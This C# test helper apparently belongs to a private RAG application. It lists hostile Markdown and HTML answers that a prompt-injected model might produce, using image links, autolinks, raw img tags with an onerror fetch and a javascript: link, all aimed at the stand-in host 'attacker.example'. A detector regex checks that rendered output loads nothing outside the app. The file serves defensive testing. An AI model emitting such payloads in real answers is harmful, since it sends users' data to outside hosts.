using System.Text.RegularExpressions;
using Markdig;

namespace PrivateRag.Testing;

/// <summary>
/// What a prompt-injected model would answer to make a reader's client call another host, and the oracle that says
/// whether a text still does: rendered by permissive Markdown renderers (raw HTML on, GitHub autolinks, with and
/// without tables), nothing may load or link outside the app.
/// </summary>
public static partial class HostileMarkdown
{
    public const string Host = "attacker.example";

    private static readonly string LongLabel = string.Concat(Enumerable.Repeat("salary figures ", 60)); // > 512 characters

    /// <summary>Hostile answers, each wrapped in ordinary answer text with a citation.</summary>
    public static IReadOnlyList<string> Answers { get; } =
    [
        $"Revenue grew [1]. ![chart](https://{Host}/x?q=secret) See above.",
        $"Revenue grew [1]. ![multi\nline\nlabel](https://{Host}/y) done.",
        $"Revenue grew [1]. ![{LongLabel}](https://{Host}/long) done.",
        $"Nested ![a [b] [c] d](https://{Host}/nest) and ![![inner](https://{Host}/i)](https://{Host}/o) end [2].",
        $"Link [click here](https://{Host}/l \"title\") and [paren](https://{Host}/a_(b)_c) and [js](javascript:alert(1)).",
        $"Reference style ![img][r1] and [link][r2] and shortcut [r3].\n\n[r1]: https://{Host}/r1\n[r2]: <https://{Host}/r2> \"t\"\n[r3]: //{Host}/r3\n",
        $"Para line one\n[d]: https://{Host}/def-under-paragraph\n",
        $"Autolink <https://{Host}/auto> and mail <leak@{Host}> and bare https://{Host}/bare?q=1 and www.{Host}/w.",
        $"Raw <img src=\"https://{Host}/p.png\"> and <img src='x>y' onerror=\"fetch('//{Host}')\"> and <a href=\"https://{Host}\">a</a>.",
        $"<div>\n<img src=https://{Host}/block.png>\n</div>\n\nAfter the block [1].",
        $"<!-- ![hidden](https://{Host}/c) --><img src=https://{Host}/after-comment>\n\nText.",
        $"Escapes &#33;[x](https://{Host}/e1) and ![x](&#104;ttps://{Host}/e2) and [x](</\t/{Host}/e3>).",
        $"| a | b |\n|---|---|\n| [x|y](https://{Host}/t) | ![i](https://{Host}/ti) |\n",
        $"Protocol-relative ![p](//{Host}/pr) and backslash [b](/\\{Host}/bs).",
        $"Unclosed at the end ![trailing](https://{Host}/never-closed",
        $"Tricky <scr<script>ipt>x</script> and <<img src=//{Host}/dbl>>.",
        $"Reference via label [![inner img](https://{Host}/ii)][r]\n\n[r]: https://{Host}/rr\n",
    ];

    private static readonly MarkdownPipeline[] Renderers =
    [
        new MarkdownPipelineBuilder().UseAutoLinks().UsePipeTables().Build(),
        new MarkdownPipelineBuilder().UseAutoLinks().Build(),
        new MarkdownPipelineBuilder().Build(),
    ];

    // In rendered HTML a real '<' opens a tag (text is escaped to &lt;), so only tags and their attributes count.
    [GeneratedRegex(@"<(img|script|iframe|object|embed|link|style|svg|video|audio|source|form|meta|base)\b|<[a-z][^>]*?\s(src|href|action|formaction|srcset|poster|data|background)\s*=\s*[""']?(?!/(?![/\\])|#)", RegexOptions.IgnoreCase)]
    private static partial Regex Outbound();

    /// <summary>The first renderer's HTML that would load or link outside the app, or null when none does.</summary>
    public static string? Leak(string text)
    {
        foreach (var renderer in Renderers)
        {
            var html = Markdown.ToHtml(text, renderer);
            if (Outbound().IsMatch(html)) return html;
        }
        return null;
    }
}
